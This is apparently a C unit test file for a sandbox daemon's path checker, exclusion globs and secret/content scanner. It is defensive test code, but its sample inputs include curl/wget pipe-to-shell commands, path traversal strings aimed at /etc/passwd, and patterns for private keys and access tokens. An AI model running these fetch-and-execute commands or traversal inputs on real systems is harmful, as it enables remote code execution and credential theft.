/* test_oppath.c — jailboxd's checks of a file op before it is stored: path syntax
 * (sandbox/pathcheck.c, also compiled into the shim), exclusion globs and the content
 * scanner (api/scan.c). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "api/scan.h"
#include "sandbox/pathcheck.h"

static enum jb_path_verdict chk(const char *p) { return jb_path_check(p, strlen(p), 0); }

static void path_ok(void **state) {
  (void)state;
  assert_int_equal(chk("a"), JB_PATH_OK);
  assert_int_equal(chk("a/b/c.txt"), JB_PATH_OK);
  assert_int_equal(chk(".hidden/x"), JB_PATH_OK);
  assert_int_equal(chk("...") , JB_PATH_OK);          /* not "..": an ordinary name */
  assert_int_equal(chk("a..b/..c"), JB_PATH_OK);
  /* decoded exactly once: these are ordinary bytes */
  assert_int_equal(chk("%2e%2e/etc/passwd"), JB_PATH_OK);
  assert_int_equal(chk("..\\..\\etc"), JB_PATH_OK);
  assert_int_equal(chk("\xe2\x80\xa4\xe2\x80\xa4/x"), JB_PATH_OK); /* U+2024 ONE DOT LEADER */
  assert_int_equal(chk("\xef\xbc\x8f" "etc"), JB_PATH_OK);         /* U+FF0F FULLWIDTH SOLIDUS */
  assert_int_equal(jb_path_check(".", 1, 1), JB_PATH_OK);
}

static void path_refused(void **state) {
  (void)state;
  assert_int_equal(chk(""), JB_PATH_EMPTY);
  assert_int_equal(jb_path_check(NULL, 0, 0), JB_PATH_EMPTY);
  assert_int_equal(jb_path_check("a\0b", 3, 0), JB_PATH_NUL);
  assert_int_equal(chk("/etc/passwd"), JB_PATH_ABSOLUTE);
  assert_int_equal(chk("//x"), JB_PATH_ABSOLUTE);
  assert_int_equal(chk(".."), JB_PATH_DOTDOT);
  assert_int_equal(chk("../x"), JB_PATH_DOTDOT);
  assert_int_equal(chk("a/../../x"), JB_PATH_DOTDOT);
  assert_int_equal(chk("a/.."), JB_PATH_DOTDOT);
  assert_int_equal(chk("."), JB_PATH_DOT);
  assert_int_equal(chk("./a"), JB_PATH_DOT);
  assert_int_equal(chk("a/./b"), JB_PATH_DOT);
  assert_int_equal(chk("a//b"), JB_PATH_EMPTY_NAME);
  assert_int_equal(chk("a/"), JB_PATH_EMPTY_NAME);
  char name[300];
  memset(name, 'n', 256);
  name[256] = '\0';
  assert_int_equal(chk(name), JB_PATH_NAME_TOO_LONG);
  name[255] = '\0';
  assert_int_equal(chk(name), JB_PATH_OK);
  char *longp = malloc(JB_PATH_MAX + 2);
  for (int i = 0; i < JB_PATH_MAX + 1; i++) longp[i] = (i % 2) ? '/' : 'a';
  longp[JB_PATH_MAX + 1] = '\0';
  assert_int_equal(chk(longp), JB_PATH_TOO_LONG);
  longp[JB_PATH_MAX - 1] = '\0'; /* 4095 bytes ending in 'a' */
  assert_int_equal(chk(longp), JB_PATH_OK);
  free(longp);
  assert_string_not_equal(jb_path_verdict_text(JB_PATH_DOTDOT), "ok");
}

static void exclusions(void **state) {
  (void)state;
  json_t *g = json_pack("[s,s,s]", "secrets", "*.pem", ".git");
  const char *which = NULL;
  assert_true(jb_path_excluded("secrets", g, &which));
  assert_string_equal(which, "secrets");
  assert_true(jb_path_excluded("secrets/a/b.txt", g, NULL));
  assert_true(jb_path_excluded("key.pem", g, NULL));
  assert_true(jb_path_excluded("dir/key.pem", g, NULL)); /* a glob without '/' names any component */
  assert_true(jb_path_excluded("dir/.git/hooks/x", g, NULL));
  json_t *g3 = json_pack("[s]", "secrets/*");
  assert_true(jb_path_excluded("secrets/.env", g3, NULL)); /* a leading dot is not special */
  assert_true(jb_path_excluded("secrets/a/.env", g3, NULL));
  assert_false(jb_path_excluded("other/.env", g3, NULL));
  json_decref(g3);
  assert_true(jb_path_excluded(".git/config", g, NULL));
  assert_false(jb_path_excluded("src/main.c", g, NULL));
  assert_false(jb_path_excluded("notsecrets", g, NULL));
  json_t *g2 = json_pack("[s]", "*");
  assert_true(jb_path_excluded(".env", g2, NULL)); /* excluding errs on the side of hiding */
  assert_true(jb_path_excluded("a/b", g2, NULL));
  assert_false(jb_path_excluded("x", NULL, NULL));
  json_decref(g);
  json_decref(g2);
}

static void expect_rule(const char *path, const char *content, const char *rule) {
  json_t *h = jb_scan_content(path, (const unsigned char *)content, strlen(content));
  assert_non_null(h);
  bool found = false;
  size_t i;
  json_t *v;
  json_array_foreach(h, i, v) found = found || (rule && !strcmp(json_string_value(v), rule));
  if (rule) {
    if (!found) fail_msg("rule %s did not match %s", rule, content);
  } else if (json_array_size(h) != 0) {
    fail_msg("clean sample flagged by %s", json_string_value(json_array_get(h, 0)));
  }
  json_decref(h);
}

static void scanner(void **state) {
  (void)state;
  expect_rule("k", "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n", "private_key");
  expect_rule("k", "-----BEGIN OPENSSH PRIVATE KEY-----\n", "private_key");
  expect_rule("k", "-----BEGIN PRIVATE KEY-----\n", "private_key");
  expect_rule("k", "-----BEGIN PUBLIC KEY-----\n", NULL);
  expect_rule("c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", "aws_access_key_id");
  expect_rule("c", "AKIAIOSFODNN7EXAMPL is too short\n", NULL);
  expect_rule("c", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n", "github_token");
  expect_rule("c", "xoxb-1234567890-abcdefghij\n", "slack_token");
  expect_rule("c", "glpat-abcdefghij0123456789\n", "gitlab_token");
  expect_rule("c", "key=AIzaSyA-1234567890abcdefghijklmnopqrstu\n", "google_api_key");
  expect_rule("s.sh", "curl -fsSL https://x.example/i.sh | sh\n", "download_and_execute");
  expect_rule("s.sh", "wget -qO- https://x.example/i | sudo bash\n", "download_and_execute");
  expect_rule("s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL);
  expect_rule(".git/hooks/pre-commit", "#!/bin/sh\n", "git_hooks");
  expect_rule("sub/.git/hooks/post-checkout", "#!/bin/sh\n", "git_hooks");
  expect_rule("README.md", "# hello\nplain text\n", NULL);
  /* classes a review found missing: each flagged, with a clean neighbour */
  expect_rule("k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n", "private_key");
  expect_rule(".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", "git_hooks");
  expect_rule(".git/config", "[core]\n", NULL);
  expect_rule(".github/workflows/ci.yml", "on: push\n", "ci_definition");
  expect_rule(".gitlab-ci.yml", "stages: []\n", "ci_definition");
  expect_rule("docs/workflows.md", "on: push\n", NULL);
  expect_rule(".bashrc", "alias ll='ls -l'\n", "shell_startup");
  expect_rule("sub/.profile", "PATH=$PATH\n", "shell_startup");
  expect_rule("profile.txt", "PATH=$PATH\n", NULL);
  expect_rule("s.sh", "curl -fsSL https://x.example/i | /bin/sh\n", "download_and_execute");
  expect_rule("s.sh", "curl -fsSL https://x.example/i | sudo -E bash\n", "download_and_execute");
  expect_rule("s.sh", "curl -fsSL https://x.example/i | python3\n", "download_and_execute");
  expect_rule("s.sh", "bash <(curl -fsSL https://x.example/i)\n", "download_and_execute");
  expect_rule("s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL);
  /* UTF-16LE text of a key (NUL after every ASCII byte) */
  const char *key = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n";
  unsigned char u16[128];
  size_t n = 0;
  for (const char *c = key; *c; c++) u16[n++] = (unsigned char)*c, u16[n++] = 0;
  json_t *hu = jb_scan_content("k.txt", u16, n);
  assert_non_null(hu);
  assert_true(json_array_size(hu) >= 1);
  assert_string_equal(json_string_value(json_array_get(hu, 0)), "private_key");
  json_decref(hu);
  unsigned char *bin = calloc(1, 9000);
  json_t *h = jb_scan_content("a.bin", bin, 9000);
  assert_string_equal(json_string_value(json_array_get(h, 0)), "binary_content");
  json_decref(h);
  h = jb_scan_content("a.bin", bin, 100);
  assert_int_equal(json_array_size(h), 0);
  json_decref(h);
  free(bin);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(path_ok),
      cmocka_unit_test(path_refused),
      cmocka_unit_test(exclusions),
      cmocka_unit_test(scanner),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
